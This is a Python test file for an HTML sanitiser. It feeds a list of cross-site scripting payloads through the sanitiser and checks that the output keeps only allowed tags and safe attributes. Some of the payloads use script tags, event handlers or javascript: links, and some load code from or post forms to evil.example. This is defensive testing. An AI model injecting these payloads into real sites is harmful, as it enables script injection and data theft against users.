"""Hostile HTML comes out inert. Judged by a parser of its own: what survives is on the list, or it is text."""

from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from framework.page.sanitise import DROPPED, KEPT, harmless

ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><circle r=1 /></svg>",
    "<a href='javascript:alert(1)'>go</a>",
    "<a href=' JaVaScRiPt:alert(1)'>go</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>go</a>",
    "<div style='background:url(//evil.example/p.png)'>x</div>",
    "<style>@import '//evil.example/x.css'; body{display:none}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<table onmouseover=alert(1) background=//evil.example/p.png><tr><td id=main class=skip>1</td></tr></table>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?><base href='//evil.example/'>",
    "<form action=//evil.example><input name=q><button>send</button></form>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<p>unclosed <b>bold <i>both</p></div></main></body></html>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
]


class Reader(HTMLParser):
    def __init__(self):
        super().__init__()
        self.tags, self.attributes, self.open = set(), [], []

    def handle_starttag(self, tag, attrs):
        self.tags.add(tag)
        self.attributes += attrs
        if tag not in ("br", "hr", "col"):
            self.open.append(tag)

    def handle_endtag(self, tag):
        if tag not in ("br", "hr", "col"):
            assert self.open.pop() == tag


def read(html):
    reader = Reader()
    reader.feed(html)
    reader.close()
    assert not reader.open, "every element is closed"
    return reader


def inert(html):
    reader = read(html)
    assert reader.tags <= KEPT
    for name, value in reader.attributes:
        assert not name.startswith("on")
        assert name not in ("style", "src", "id", "class", "background")
        assert name != "href" or value.strip().lower().startswith(("http://", "https://", "mailto:"))
    return True


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_attack_comes_out_inert(attack):
    assert inert(harmless(attack))


@given(
    st.lists(
        st.sampled_from([*ATTACKS, *(f"<{tag} x=1>" for tag in sorted(DROPPED | KEPT)), "</p>", "text & <"])
    )
)
def test_attacks_in_any_order_come_out_inert_and_well_formed(parts):
    assert inert(harmless("".join(parts)))


def test_a_table_of_results_survives_with_its_spans_and_scopes():
    table = (
        "<table class='dataframe'><thead><tr><th colspan='2' scope='col'>a &amp; b</th></tr></thead>"
        "<tbody><tr><td>1</td><td rowspan='2'>2</td></tr></tbody></table>"
    )
    assert harmless(table) == table.replace(" class='dataframe'", "").replace("'", '"')


def test_a_link_to_another_site_stays_a_link_without_referrer():
    assert harmless('<a href="https://example.org/x" target="_top">paper</a>') == (
        '<a href="https://example.org/x" rel="noreferrer nofollow">paper</a>'
    )
